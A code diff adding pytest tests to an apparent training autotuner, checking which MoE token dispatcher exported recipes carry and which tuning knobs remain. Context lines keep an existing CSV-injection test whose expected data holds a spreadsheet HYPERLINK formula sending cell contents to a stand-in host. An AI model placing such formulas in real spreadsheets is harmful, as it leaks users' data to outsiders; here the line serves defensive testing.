@@ -886,3 +886,39 @@ def test_a_replay_tables_error_cells_are_never_a_spreadsheet_formula(tmp_path):
     errors = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)["error"].tolist()
     assert errors[1:] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(A1)", "'-2+3",
                           "NCCL error: -5"], errors
+
+
+@pytest.mark.parametrize("backend,options,written", [
+    ("megatron", {"dispatcher": "alltoall"}, "alltoall"),  # the runs were all-to-all: so is the export
+    ("megatron", {}, "alltoall"),  # a study stored before the option was written ran all-to-all too
+    ("megatron", {"dispatcher": "recipe"}, None),  # the recipe's own dispatcher ran: nothing to write
+    ("simulate", {}, None),
+])
+def test_the_export_writes_the_dispatcher_the_runs_ran(tmp_path, backend, options, written):
+    """Review with megatron-probe: the GPU worker ran all-to-all where a trial set no dispatcher, and the export
+    left the recipe's flex dispatcher in place: the exported recipe ran something that was never measured."""
+    repo, study, _ = _study_with_trial(tmp_path, {"ep": 8, "dist_opt": True}, backend=backend, backend_options=options)
+    trial = repo.trials(study.id)[0]
+    overrides = parse_overrides([line for line in export.render_overrides(study, trial).splitlines()
+                                 if not line.startswith("#")])
+    assert overrides.get("model.moe_token_dispatcher_type") == written
+    assert ("model.moe_token_dispatcher_type = 'alltoall'" in export.render_recipe(study, trial)) == bool(written)
+    # a trial that set the dispatcher keeps its own
+    flex = {"ep": 8, "dist_opt": True, "dispatcher": "flex_deepep"}
+    repo2, study2, _ = _study_with_trial(tmp_path / "flex", flex, backend=backend, backend_options=options)
+    assert "model.moe_token_dispatcher_type=flex" in export.render_overrides(study2, repo2.trials(study2.id)[0])
+
+
+def test_a_study_that_runs_every_trial_all_to_all_tunes_no_dispatcher():
+    """`--backend megatron --dispatcher alltoall` (a container without the flex backends): no flex variant, no SM
+    count; the recipe's dispatcher (the default) keeps both knobs."""
+    from autotune.cli._study_cmds import _without_unrunnable_dispatchers
+    from autotune.space import load_space, make_workload
+
+    space = load_space("qwen3_30b")
+    workload = make_workload(space, gpus=16)
+    assert {"dispatcher", "dispatcher_sms"} <= set(space.perf_domains)
+    forced = _without_unrunnable_dispatchers(space, workload, "megatron", {"dispatcher": "alltoall"})
+    assert not {"dispatcher", "dispatcher_sms"} & set(forced.perf_domains) and "cuda_graph" in forced.perf_domains
+    for backend, options in (("megatron", {"dispatcher": "recipe"}), ("simulate", {})):
+        assert _without_unrunnable_dispatchers(space, workload, backend, options).perf_domains == space.perf_domains
